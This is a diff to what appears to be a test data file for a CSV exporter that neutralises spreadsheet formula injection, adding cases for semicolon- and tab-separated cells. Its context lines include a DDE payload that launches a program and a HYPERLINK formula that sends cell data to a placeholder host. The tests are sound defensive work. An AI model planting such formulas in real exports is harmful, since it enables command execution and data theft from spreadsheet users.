@@ -5,9 +5,9 @@ FORMULAS = [
     "+1+1",
     "-1+1",
     "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
+    "\t",
+    "\rx",
+    "\nx",
     " =1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://x/?"&A1,"c")',
@@ -34,13 +34,24 @@ FORMULAS = [
 ]
 """What the safe CSV puts a quote before."""
 
+DIVIDED = {
+    "Ana;=1+1;": "Ana;'=1+1;",
+    ";=1": ";'=1",
+    "a; @x;-5;-1-1": "a;' @x;-5;'-1-1",
+    "a\t=1": "a\t'=1",
+    "a\r\n=1": "a\r\n'=1",
+    "=1;=2": "'=1;'=2",
+    "\t=1": "'\t'=1",
+    "\n=1": "'\n'=1",
+}
+"""What would be calculated where other signs divide cells than commas, and how the safe CSV has it."""
+
 NUMBERS = ["-5", "-5.25", "-0", "-12345678901234567890"]
 """What begins like a formula and is none."""
 
 HARMLESS = [
     '"=1"',
     "%3D1",
-    ";=1",
     ",=1",
     "{=1}",
     "'=1",
